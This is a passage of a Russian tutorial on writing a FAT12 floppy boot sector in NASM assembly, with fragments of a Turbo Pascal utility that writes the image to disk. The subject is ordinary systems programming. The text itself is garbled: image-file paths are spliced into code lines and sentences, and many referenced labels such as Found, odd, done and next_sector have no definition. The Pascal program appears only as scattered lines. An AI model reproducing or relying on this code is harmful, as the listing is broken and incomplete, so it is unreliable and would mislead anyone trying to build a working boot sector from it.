;si — Количество элементов в корневом каталоге
; Вычислим размер системной области FAT = резервные сектора +
; все копии FAT + корневой каталог
mov [bp+SysSize], ax ; осталось добавить размер каталога
mov [bp+SysSize+2], dx
; Вычислим размер корневого каталога
mov ax, 32
mul si
; dx:ax — размер корневого каталога в байтах, а надо в секторах
mov bx, [byte bp+BPB_BytsPerSec]
add ax, bx
dec ax
div bx
; ax — размер корневого каталога в секторах
add [bp+SysSize], ax ; Теперь мы знаем размер системной
adc [bp+SysSize+2], cx ; области FAT, и начало области данных
; В dx:ax — снова номер первого сектора корневого каталога
; si — количество элементов в корневом каталоге

Теперь мы будем просматривать корневой каталог в поисках нужного нам файла
; Загрузим очередной сектор каталога во временный буфер
mov bx, 700h ; es:bx — буфер для считываемого сектора
mov di, bx ; указатель текущего элемента каталога
mov cx, 1 ; количество секторов для чтения
call ReadSectors
jc near DiskError ; ошибка при чтении
; Ищем наш файл
; cx = 0 после функции ReadSectors
cmp [di], ch ; byte ptr [di] = 0?
jz near NotFound ; Да, это последний элемент в каталоге
; Нет, не последний, сравним имя файла
mov cl, 11 ; длинаимени файла с расширением
mov si, BOOT_ADDR + LoaderName ; указатель на имя искомого файла
rep cmpsb ; сравниваем
jz short Found ; Нашли, выходим из цикла
; Нет, ищем дальше
dec si ; RootEntCnt
jz near NotFound ; Это был последний элемент каталога
add di, 32 ; Переходим к следующему элементу каталога
; bx указывает на конец прочтенного сектора после call ReadSectors
cmp di, bx ; Последний элемент в буфере?
jb short RootDirLoop ; Нет, проверим следующий элемент
jmp short NextDirSector ; Да последний, загрузим следующий сектор

Из этого кода мы можем выйти одну из трех точек: ошибка при чтении DiskError, файл наден Found или файл не найден NotFound.

Если файл найден, то загрузим его в память и передадим управление на его начало.

;Загрузка загрузчика(извените, калабур)
mov bx, SETUP_ADDR
mov ax, [byte di+DIR_FstClusLow] ; Номер первого кластера файла
; Загружаем сектор с элемнтами FAT, среди которых есть FAT[ax]
; LoadFAT сохраняет значения всех регистров
call LoadFAT
; ax — Номер очередного кластера
; Загрузим его в память
push ax
; Первые два элемента FAT служебные
dec ax
dec ax
; Число секторов для чтения
; cx = 0 после ReadSectors
mov cl, [byte bp+BPB_SecPerClus] ; Секторов на кластер
mul cx
; dx:ax — Смещение кластера относительно области данных
add ax, [byte bp+SysSize]
adc dx, [byte bp+SysSize+2]; dx:ax — Номер первого сектора требуемого кластера
; cx еще хранит количество секторов на кластер
; es:bx — конец прошлого кластера и начало нового
call ReadSectors ; читаем кластер
jc near DiskError ; Увы, ошибка чтения
pop ax ; Номер кластера
; Это конец файла?
; Получим значение следующего элемента FAT
; Вычислим адрес элемента FAT
mov bx, ax
shl ax, 1
add ax, bx
shr ax, 1
; Получим номер сектора, в котором находится текущий элемент FAT
div word [byte bp+BPB_BytsPerSec]
cmp ax, [bp+fat] ; Мы уже читали этот сектор?
je Checked ; Да, читали
; Нет, надо загрузить этот сектор
call LoadFAT
; Вычислим адрес элемента FAT в буфере
push bxmov bx, ax
shl bx, 1
add bx, ax
shr bx, 1
and bx, 511 ; остаток от деления на 512
mov bx, [bx+0x700] ; а вот и адрес
; Извлечем следующий элемент FAT
; В FAT16 и FAT32 все немного проще
test al, 1
jnz odd
and bx, 0xFFF
jmp short done
shr bx, 4
mov ax, bx
pop bx
; bx — новый элемент FAT
cmp ax, 0xFF8 ; EOF — конец файла?
jb ReadCluster ; Нет, читаем следующий кластер
; Наконец-то загрузили
mov es, axmov ds, ax
; Передаем управление, наше дело сделано
jmp SETUP_ADDR>>4:0

LoadFAT ;proc
; Процедура для загрузки сектора с элементами FAT
; Элемент ax должен находится в этом секторе
; Процедура не должна менять никаких регистров
; Вычисляем адрес слова содержащего нужный элемент
mov bx, ax
shl ax, 1
add ax, bx
shr ax, 1
div word [byte bp+BPB_BytsPerSec]
; ax — смещение сектора относительно начала таблицы FAT
mov [bp+fat], ax ; Запомним это смещение, dx = 0cwd ; dx:ax — номер сектора, содержащего FAT[?]
; Добавим смещение к первой копии таблицы FAT
add ax, [byte bp+BPB_RsvdSecCnt]
adc dx, 0
add ax, [byte bp+BPB_HiddSec]
adc dx, [byte bp+BPB_HiddSec+2]
mov cx, 1 ; Читаем один сектор. Можно было бы и больше, но не быстрее
mov bx, 700h ; Адрес буфера
call ReadSectors
jc DiskError ; Ошибочка вышла
;LoadFAT endp

В FAT12 на каждый элемент FAT отводится по 12 бит, что несколько усложняет нашу работу, в FAT16 и FAT32 на каждый элемент отводится по 16 и 32 бита соответственно и можно просто прочесть слово или двойное слово, а в FAT12 необходимо прочесть слово содержащее элемент FAT и правильно извлечь из него 12 бит.

Теперь разберем процедуру загрузки секторов. Процедура получает номер сектора в dx:ax (нумерация с нуля) и преобразует его к формату CSH (цилиндр,сектор, сторона), используемому прерыванием BIOS int 0x13.
; ***
; * Чтение секторов с диска *
; ***
; * Входные параметры: *
; * dx:ax — (LBA) номер сектора *
; * cx — количество секторов для чтения *
; * es:bx — адрес буфера *
; ***
; * Выходные параметры: *; * cx — Количество не прочтенных секторов *
; * es:bx — Указывает на конец буфера *
; * cf = 1 — Произошла ошибка при чтении *
; ***
ReadSectors ;proc
; Читаем очередной сектор
mov byte [bp+fails], 3 ; Количество попыток прочесть сектор
; Очередная попытка
; Преобразуем линейный адрес в CSH
; dx:ax = a1:a0
xchg ax, cx ; cx = a0
mov ax, [byte bp+BPB_SecPerTrk]
xchg ax, si ; si = Scnt
xchg ax, dx ; ax = a1
xor dx, dx
; dx:ax = 0:a1
div si ; ax = q1, dx = c1
xchg ax, cx ; cx = q1, ax = a0
; dx:ax = c1:a0
div si ; ax = q2, dx = c2 = c
inc dx ; dx = Sector?
xchg cx, dx ; cx = c, dx = q1
; dx:ax = q1:q2
div word [byte bp+BPB_NumHeads] ; ax = C (track), dx = H
mov dh, dl ; dh = H
mov ch, al
ror ah, 2
or cl, ah
mov ax, 0201h ; ah=2 — номер функции, al = 1 сектор
mov dl, [byte bp+BS_DrvNum]
int 13h
jc Failure ; Ошибка при чтении
; Номер следующего сектора
inc ax
jnz next
inc dx
add bx, [byte bp+BPB_BytsPerSec]
dec cx ; Все сектора прочтены?
jnz next_sector ; Нет, читаем дальше
dec byte [bp+fails] ; Последняя попытка?
jnz try ; Нет, еще раз
; Последняя, выходим с ошибкой
;ReadSectors endp

Осталось всего ничего:
; Сообщения об ошибках
NotFound: ; Файл не найден
mov si, BOOT_ADDR + mLoaderNotFound
call print
jmp shortdie
DiskError: ; Ошибка чтения
mov si, BOOT_ADDR + mDiskError
call print
;jmp short die
die: ; Просто ошибка
mov si, BOOT_ADDR + mReboot
call print
_die: ; Бесконечный цикл, пользователь сам нажмет Reset
jmp short _die
; Процедура вывода ASCIIZ строки на экран
; ds:si — адрес строки
print: ; proc
lodsb ; Читаем очередной символ
test al, al ; 0 — конец?jz short pr_exit ; Да конец
; Нет, выводим этот символ
mov ah, 0eh
mov bl, 7
int 10h
jmp short print_char ; Следующий
;print endp
; Перевод строки
%define endl 10,13,0
;Строковые сообщения
mLoading db ‘Loading…’,endl
mDiskError db ‘Disk I/O error’,endl
mLoaderNotFound db ‘Loader not found’,endl
mReboot db ‘Reboot system’,endl
; Выравнивание размера образа на 512 байт
times 499-($-$$) db 0
LoaderName db ‘BOOTOR ‘ ; Имя файла загрузчика
BootMagic dw 0xAA55 ; Сигнатура загрузочного сектора

Ну вот вроде бы и все. Компилируется все это до безобразия просто:
> nasm -f bin boot.asm -lboot.lst -oboot.binОсталось только как-то записать этотобраз в загрузочный сектор вашей дискеты и разместить в корне этой дискеты файл загрузчика BOOTOR. Загрузочный сектор можно записать с помощью такой вот простой программы наTurbo (Borland) Pascal. Эта программа будет работать как в DOS, так и в Windows — пробовал на WinXP — работает как ни странно, но только с floopy. Но все же я рекомендую запускать эту утилиту из-под чистого DOS’а, т.к. WinXP обновляет не всеполя в заголовке FAT и загрузочный сектор может работать некорректно.

buf:array[0..511]of byte;
if fn=» then writeln(‘makeboot bootsect.bin’)
writeln(‘Making boot floppy’);
if IOResult<>0 then
Writeln(‘Failed to read file «‘,fn,'»‘);
mov ax,0301h
mov cx, 1
mov dx, 0
mov bx, seg buf
mov es, bx
mov bx, offset buf
int 13h
jc @error
mov ok, true
if ok then writeln(‘Done :)’)
else beginwriteln(‘Makeboot failed :(‘);